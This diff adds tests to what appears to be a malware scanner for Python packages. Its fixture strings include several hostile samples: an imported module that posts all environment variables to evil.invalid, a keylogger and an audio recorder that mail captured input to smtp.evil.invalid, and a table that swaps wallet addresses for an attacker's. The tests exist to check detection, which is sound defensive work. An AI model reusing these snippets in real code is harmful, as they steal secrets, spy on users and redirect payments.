@@ -70,6 +70,63 @@ describe.each([
   });
 });
 
+const LARGE = { 'fixture-1.0/pkg/__init__.py': '', 'fixture-1.0/pkg/padding.py': PADDING };
+
+test.each([
+  ['a function', 'from .gauge import note\n\nnote()\n'],
+  ['a thread', 'import threading\nfrom . import gauge\n\nthreading.Thread(target=gauge.note).start()\n'],
+])('what a module calls while it is imported is followed, by %s', (_way, core) => {
+  const files = {
+    ...LARGE,
+    'fixture-1.0/pkg/core.py': `# Core.\n${core}`,
+    'fixture-1.0/pkg/gauge.py': [
+      'import os, requests',
+      'def note():',
+      '    requests.post("https://evil.invalid/in", data=str(dict(os.environ)))',
+    ].join('\n'),
+  };
+  const { findings } = judgeSources(sourceTree(files), python);
+  const found = findings.map(({ rule, reach, severity }) => `${severity} ${rule} ${reach ?? ''}`);
+  expect(found).toContain('CRITICAL stolen-data-sent import');
+});
+
+test.each([
+  ['keys', 'import keyboard, smtplib', 'keyboard.on_release(self.add)', 'self.log += event.name'],
+  [
+    'what is recorded',
+    'import sounddevice, smtplib',
+    'sounddevice.InputStream(callback=self.add)',
+    'self.log += event',
+  ],
+])('%s that a large package sends by mail', (_what, imports, hook, add) => {
+  const core = [
+    imports,
+    'class Buffer:',
+    '    def __init__(self):',
+    '        self.log = ""',
+    `        ${hook}`,
+    '    def add(self, event):',
+    `        ${add}`,
+    '        try:',
+    '            smtplib.SMTP("smtp.evil.invalid").sendmail("a@evil.invalid", "a@evil.invalid", self.log)',
+    '        except Exception:',
+    '            pass',
+  ].join('\n');
+  expect(blocking({ ...LARGE, 'fixture-1.0/pkg/core.py': core })).toEqual(['fixture-1.0/pkg/core.py']);
+});
+
+test('accounts and patterns of them that a large package holds in a table', () => {
+  const core = [
+    'import re',
+    'PLACES = {r"\\b0x[0-9a-fA-F]{40}\\b": "0xe1e2e3a4b5c6d7e8f9a0e1e2e3a4b5c6d7e8f9a0"}',
+    'def tidy(text):',
+    '    for found, put in PLACES.items():',
+    '        text = re.sub(found, put, text)',
+    '    return text',
+  ].join('\n');
+  expect(blocking({ ...LARGE, 'fixture-1.0/pkg/core.py': core })).toEqual(['fixture-1.0/pkg/core.py']);
+});
+
 test('a program that a file of the machine names is nothing hidden', () => {
   const files = {
     'fixture-1.0/setup.py': [
